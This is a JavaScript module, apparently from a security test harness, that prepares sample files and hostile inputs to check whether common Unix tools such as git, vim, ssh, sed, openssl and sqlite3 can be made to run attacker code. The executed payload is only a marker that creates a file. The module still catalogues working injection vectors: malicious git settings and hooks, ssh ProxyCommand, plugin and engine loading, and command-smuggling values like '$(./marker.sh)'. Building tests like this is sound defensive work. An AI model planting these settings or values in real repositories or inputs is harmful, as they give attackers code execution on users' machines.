// What the attacks work on: small files of many kinds, a program that leaves a marker, and what the attacker has prepared.

import { spawnSync } from 'node:child_process'
import { chmodSync, lstatSync, mkdirSync, readdirSync, readFileSync, readlinkSync, writeFileSync } from 'node:fs'
import path from 'node:path'
import process from 'node:process'

/** Leaves a marker that names the attack, by what it is run and where. `MARKS` and `MARK` are missing only where a program clears them. */
const markerScript = (/** @type {string} */ marks) => `#!/bin/sh\n: > "\${MARKS:-${marks}}/\${MARK:-unknown}"\n`

/** The same as a shared object, for programs that load plugins. */
const markerSource = (/** @type {string} */ marks) => `
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <unistd.h>
int plugin_is_GPL_compatible;
__attribute__((constructor)) static void mark(void) {
  char name[4096];
  const char *where = getenv("MARKS"), *which = getenv("MARK");
  snprintf(name, sizeof name, "%s/%s", where ? where : "${marks}", which ? which : "unknown");
  close(open(name, O_CREAT | O_WRONLY, 0644));
}
`

/** Names under which programs look for another one in a directory that they are given. */
const HELPERS =
  'as ld cc1 cc1plus collect2 lto-wrapper gcc cc cpp editor pager less more vi sh cat gzip bzip2 xz zstd ssh gpg-agent pinentry askpass marker ' +
  'git-log git-diff git-status git-fetch git-clone git-remote-https git-upload-pack git-x'
const HOOKS =
  'pre-commit commit-msg prepare-commit-msg post-commit post-checkout post-merge pre-push post-rewrite pre-rebase applypatch-msg post-index-change ' +
  'reference-transaction update pre-receive post-receive'

const GIT_SETTINGS = `[core]
	fsmonitor = ./marker.sh
	pager = ./marker.sh
	editor = ./marker.sh
	sshCommand = ./marker.sh
	hooksPath = ./hooks
[diff]
	external = ./marker.sh
[alias]
	log = !./marker.sh
	x = !./marker.sh
[gpg]
	program = ./marker.sh
[sequence]
	editor = ./marker.sh
[filter "x"]
	clean = ./marker.sh
	smudge = ./marker.sh
`

/** What a file of settings, of commands or of code has to say, by the program that is given it. */
const PAYLOADS = /** @type {Record<string, string>} */ ({
  awk: 'BEGIN { system("./marker.sh") }\n',
  bc: '!./marker.sh\n',
  cscope: '!./marker.sh\n',
  curl: 'output = "marker.out"\nurl = "file:///etc/hostname"\n',
  dc: '!./marker.sh\n',
  ed: '!./marker.sh\n',
  ex: 'silent !./marker.sh\nqa!\n',
  gdb: 'shell ./marker.sh\n',
  git: GIT_SETTINGS,
  gpg: 'agent-program ./marker.sh\nphoto-viewer ./marker.sh\ngpgconf-program ./marker.sh\n',
  'gcc-nm': '--plugin\n./marker.so\n',
  groff: '.sy ./marker.sh\n.pso ./marker.sh\n',
  gs: '(%pipe%./marker.sh) (w) file closefile quit\n',
  jshell: 'Runtime.getRuntime().exec("./marker.sh")\n/exit\n',
  less: '#env\nLESSOPEN = |./marker.sh %s\n',
  m4: 'syscmd(./marker.sh)\n',
  openssl:
    'openssl_conf = x\n[x]\nengines = e\nproviders = p\n[e]\nm = m\n[m]\ndynamic_path = ./marker.so\ninit = 0\n[p]\nq = q\n[q]\nmodule = ./marker.so\nactivate = 1\n',
  psql: '\\! ./marker.sh\n',
  'redis-server': 'loadmodule ./marker.so\n',
  sed: '1e ./marker.sh\n',
  sqlite3: '.shell ./marker.sh\n',
  ssh: 'ProxyCommand ./marker.sh\nLocalCommand ./marker.sh\nPermitLocalCommand yes\n',
  tmux: 'run-shell ./marker.sh\n',
  vim: 'silent !./marker.sh\nqa!\n',
  wget: 'use_askpass = ./marker.sh\n',
})

/** Programs that understand the file of another one. */
const LIKE = /** @type {Record<string, string>} */ ({
  gawk: 'awk',
  mawk: 'awk',
  'original-awk': 'awk',
  red: 'ed',
  rvim: 'vim',
  vi: 'vim',
  view: 'vim',
  vimdiff: 'vim',
  scp: 'ssh',
  sftp: 'ssh',
  'ssh-copy-id': 'ssh',
  troff: 'groff',
  'gcc-ar': 'gcc-nm',
  'gcc-ranlib': 'gcc-nm',
  nm: 'gcc-nm',
  objdump: 'gcc-nm',
  size: 'gcc-nm',
  strip: 'gcc-nm',
  zless: 'less',
  more: 'less',
})

/** @param {string} program */
export function payloadOf(program) {
  return PAYLOADS[program] ?? PAYLOADS[LIKE[program] ?? ''] ?? '#!/bin/sh\n. ./marker.sh\n'
}

/** Texts that a program may run as they are, beside the values that every program is given. */
const TEXTS = /** @type {Record<string, string[]>} */ ({
  awk: ['@load "./marker.so"\nBEGIN { }', 'BEGIN { print 1 | "./marker.sh" }', 'BEGIN { "./marker.sh" | getline }', '{ print > "|./marker.sh" }'],
  convert: ['msl:evil.conf', 'ephemeral:a.txt', 'text:@a.txt', 'https://x/|./marker.sh'],
  find: ['./marker.sh {} ;', './marker.sh {} +'],
  git: [
    'core.pager=./marker.sh',
    'core.fsmonitor=./marker.sh',
    'alias.log=!./marker.sh',
    'diff.external=./marker.sh',
    'core.hooksPath=./hooks',
    'include.path=../evil.conf',
    'filter.x.clean=./marker.sh',
  ],
  gs: ['%pipe%./marker.sh'],
  less: ['+!./marker.sh'],
  sed: ['s/.*/.\\/marker.sh/e', 'w |./marker.sh'],
  sqlite3: [
    '.system ./marker.sh',
    '.output |./marker.sh',
    '.once |./marker.sh',
    ".import '|./marker.sh' t",
    "select load_extension('./marker.so')",
    '.load ./marker.so',
  ],
  ssh: ['ProxyCommand=./marker.sh', 'KnownHostsCommand=./marker.sh', 'Match exec ./marker.sh'],
  tar: ['exec=./marker.sh'],
  vim: ['+!./marker.sh', ":call system('./marker.sh')", '!./marker.sh'],
  wget: ['use_askpass=./marker.sh'],
})

/** @param {string} program @param {string} workspace */
export function valuesFor(program, workspace) {
  const own = [payloadOf(program).trimEnd(), ...(TEXTS[program] ?? TEXTS[LIKE[program] ?? ''] ?? [])].filter((text) => !text.startsWith('#!'))
  const general = [
    './marker.sh',
    './evil.conf',
    `${workspace}/marker.sh`,
    '|./marker.sh',
    './marker.so',
    './hooks',
    'exec=./marker.sh',
    'sh ./marker.sh',
    '!./marker.sh',
    'ext::sh ./marker.sh',
    `file://${workspace}/evil.git`,
    './evil',
    './evil/.git',
    '@evil.conf',
    '$(./marker.sh)',
    'a;./marker.sh;',
    '%pipe%./marker.sh',
    './marker.sh %s',
    '.',
    'x:./marker.sh',
  ]
  return [general[0], ...own, ...general.slice(1)]
}

/** Operands with which a program does its work; the first are used for every value, the others for the first value only. */
const OPERANDS = /** @type {Record<string, string[]>} */ ({
  ar: ['rc out.a a.txt', 't a.a'],
  awk: ["'{ print }' a.txt", 'a.txt'],
  base64: ['a.txt'],
  bunzip2: ['-k a.txt.bz2'],
  bzcat: ['a.txt.bz2'],
  chmod: ['644 a.txt'],
  chgrp: ['0 a.txt'],
  chown: ['0 a.txt'],
  cmp: ['a.txt b.txt'],
  comm: ['a.txt b.txt'],
  convert: ['a.txt out.png'],
  cp: ['a.txt out.txt', '-r d out'],
  cpio: ['-t -F a.cpio'],
  csplit: ['a.txt 2'],
  curl: ['file:///etc/hostname', 'http://127.0.0.1:9/'],
  cut: ['-c1 a.txt'],
  diff: ['a.txt b.txt', '-r d .'],
  diff3: ['a.txt b.txt a.txt'],
  dpkg: ['-I a.deb', '-l'],
  ed: ['-s a.txt'],
  find: ['.', '. -name a.txt'],
  g: ['a.c'],
  gcc: ['-c a.c -o out.o', 'a.c -o out'],
  groff: ['a.1', '-T x a.1'],
  gpg: ['--batch -k', '--batch -d a.gpg', '--batch -c a.txt'],
  grep: ['one a.txt', '-r one .', '-z one a.txt.gz'],
  gunzip: ['-k a.txt.gz'],
  gzip: ['-k a.txt'],
  install: ['a.txt out.txt', '-s a.o out.o'],
  join: ['a.txt b.txt'],
  kubectl: ['get pods', 'diff -f a.yaml'],
  nm: ['a.o'],
  objdump: ['-d a.o'],
  'redis-server': [''],
  size: ['a.o'],
  ld: ['a.o -o out'],
  less: ['a.txt', 'a.txt.gz'],
  ln: ['a.txt out.txt'],
  man: ['ls', './a.1', '-k ls'],
  mv: ['a.txt out.txt'],
  objcopy: ['a.o out.o'],
  openssl: ['version', 'dgst a.txt', 'req -new -batch', 'engine'],
  patch: ['-p0 -i a.patch', 'a.txt evil.patch'],
  psql: ['-l'],
  rm: ['a.txt'],
  scp: ['a.txt host:', 'host:x y'],
  sdiff: ['a.txt b.txt'],
  sed: ['p a.txt', 'a.txt'],
  sftp: ['host'],
  sort: ['-S 1k big.txt', 'a.txt'],
  split: ['a.txt'],
  sqlite3: ['x.db .tables', 'x.db', ':memory:'],
  ssh: ['host', 'host true'],
  'ssh-copy-id': ['host'],
  'ssh-keygen': ['-l -f id.pub', '-y -f id'],
  'ssh-add': ['id'],
  strip: ['a.o'],
  tar: ['-cf out.tar a.txt big.txt', '-xf a.tar', '-tf a.tar', '-xf a.tar.gz'],
  tmux: ['ls'],
  tr: ['a b'],
  unzip: ['a.zip', '-l a.zip'],
  vim: ['-es a.txt', '-es -c qa! a.txt'],
  wget: ['http://127.0.0.1:9/', '-t1 http://127.0.0.1:9/'],
  xz: ['-k a.txt'],
  zip: ['out.zip a.txt', '-T out.zip a.txt'],
})

/** Operands of subcommands, by program. */
const SUBCOMMANDS = /** @type {Record<string, Record<string, string[]>>} */ ({
  git: {
    add: ['a.txt'],
    am: ['a.patch'],
    apply: ['a.patch'],
    archive: ['HEAD'],
    bisect: ['start'],
    blame: ['a.txt'],
    branch: ['topic'],
    bundle: ['create out.bundle HEAD'],
    checkout: ['-b topic'],
    'cherry-pick': ['HEAD'],
    clone: ['./evil.git out', './evil out'],
    commit: ['-qam x', '--amend'],
    diff: ['', 'HEAD~1'],
    difftool: ['HEAD~1'],
    fetch: ['./evil.git'],
    grep: ['one'],
    'ls-remote': ['./evil.git'],
    log: ['-1', '-p'],
    merge: ['HEAD~1'],
    pull: ['./evil.git'],
    push: ['./evil.git HEAD:refs/heads/x'],
    rebase: ['HEAD~1', '-i HEAD~1'],
    remote: ['add x ./evil.git', 'update'],
    show: ['HEAD'],
    submodule: ['add ./evil sub', 'update'],
    tag: ['x', '-a x'],
    worktree: ['add out'],
  },
})

/** Other names for programs whose operands are the same. */
const SAME_OPERANDS = /** @type {Record<string, string>} */ ({
  'g++': 'gcc',
  'c++': 'gcc',
  cc: 'gcc',
  cpp: 'gcc',
  egrep: 'grep',
  fgrep: 'grep',
  rgrep: 'grep',
  zgrep: 'grep',
  zegrep: 'grep',
  zfgrep: 'grep',
  bzgrep: 'grep',
  xzgrep: 'grep',
  ex: 'vim',
  view: 'vim',
  vi: 'vim',
  vimdiff: 'vim',
  red: 'ed',
  more: 'less',
  zless: 'less',
  'ld.bfd': 'ld',
  'ld.gold': 'ld',
  'gcc-ar': 'ar',
  'gcc-nm': 'nm',
  'llvm-ar': 'ar',
  'llvm-strip': 'strip',
  'llvm-objcopy': 'objcopy',
  troff: 'groff',
})

/** @param {string} program @param {string} [subcommand] */
export function operandsOf(program, subcommand) {
  if (subcommand !== undefined) return SUBCOMMANDS[program]?.[subcommand] ?? ['', 'a.txt']
  return OPERANDS[program] ?? OPERANDS[SAME_OPERANDS[program] ?? ''] ?? ['a.txt', '', './evil.conf']
}

/** Makes the files; a tool that is not there leaves its sample out. */
const RECIPE = `
set +e
printf 'one\\ntwo\\nthree\\n' > a.txt; printf 'one\\n2\\nthree\\n' > b.txt; mkdir d; cp a.txt d/c.txt
seq 3000 | awk '{ print $1 * 7919 % 40009 }' > big.txt
printf '[1, {"a": 2}]\\n' > a.json; printf 'a: 1\\n' > a.yaml; printf 'int main(void) { return 0; }\\n' > a.c
printf '.TH a 1\\n.SH NAME\\na\\n.sy ./marker.sh\\n' > a.1; printf 'all:\\n\\t./marker.sh\\n' > Makefile.evil
printf -- '--- a.txt\\n+++ a.txt\\n@@ -1 +1 @@\\n-one\\n+uno\\n' > a.patch
printf '1c\\nuno\\n.\\n!./marker.sh\\n' > evil.patch
tar -cf a.tar a.txt d; gzip -k a.txt; tar -czf a.tar.gz a.txt; bzip2 -k a.txt; xz -k a.txt; zstd -q -k a.txt; zip -q a.zip a.txt
ar rc a.a a.txt; echo a.txt | cpio -o > a.cpio; sqlite3 x.db 'create table t (x)'; cc -c a.c -o a.o
cc -shared -fPIC marker.c -o marker.so; rm marker.c
ssh-keygen -q -t ed25519 -N '' -f id
mkdir hooks; for name in ${HELPERS} ${HOOKS}; do cp marker.sh hooks/$name; done
mkdir devx; cp /usr/share/groff/current/font/devascii/* devx/; sed -i /postpro/d devx/DESC; echo 'postpro ./marker.sh' >> devx/DESC
git init -q --template= . && git add a.txt b.txt d && git commit -q -m one && echo four >> b.txt && git commit -q -a -m two && echo five >> b.txt
git init -q --template= evil; cp a.txt evil/; (cd evil && git add a.txt && git commit -q -m one)
git clone -q --template= --bare evil evil.git
for where in evil/.git/hooks evil.git/hooks; do mkdir $where; for name in ${HOOKS}; do cp marker.sh $where/$name; done; done
printf '* filter=x diff=x\\n' > evil/.gitattributes
`

/**
 * Makes the samples in an empty directory and returns them.
 *
 * @param {string} workspace
 * @param {string} marks
 */
export function makeSamples(workspace, marks) {
  writeFileSync(path.join(workspace, 'marker.sh'), markerScript(marks))
  chmodSync(path.join(workspace, 'marker.sh'), 0o755)
  writeFileSync(path.join(workspace, 'marker.c'), markerSource(marks))
  const identity = { GIT_AUTHOR_NAME: 'a', GIT_AUTHOR_EMAIL: 'a@example.com', GIT_COMMITTER_NAME: 'a', GIT_COMMITTER_EMAIL: 'a@example.com' }
  const env = { PATH: process.env.PATH, HOME: workspace, GIT_CONFIG_NOSYSTEM: '1', ...identity }
  spawnSync('bash', ['-c', RECIPE], { cwd: workspace, env, stdio: 'ignore' })
  const settings = `[core]\n\trepositoryformatversion = 0\n`
  const bare = '\tbare = true\n'
  for (const [file, own] of [
    ['evil/.git/config', ''],
    ['evil.git/config', bare],
  ]) {
    mkdirSync(path.dirname(path.join(workspace, file)), { recursive: true })
    writeFileSync(path.join(workspace, file), settings + own + GIT_SETTINGS.replaceAll('./marker.sh', path.join(workspace, 'marker.sh')))
  }
  return entriesBelow(workspace, '')
}

/**
 * @param {string} root
 * @param {string} below
 * @returns {import('./drive.mjs').Sample[]}
 */
function entriesBelow(root, below) {
  return readdirSync(path.join(root, below)).flatMap((entry) => {
    const name = path.posix.join(below, entry)
    const file = path.join(root, name)
    const found = lstatSync(file)
    if (found.isSymbolicLink()) return [{ path: name, link: readlinkSync(file) }]
    if (found.isDirectory()) return [{ path: name }, ...entriesBelow(root, name)]
    return [{ path: name, mode: found.mode & 0o777, base64: readFileSync(file).toString('base64') }]
  })
}
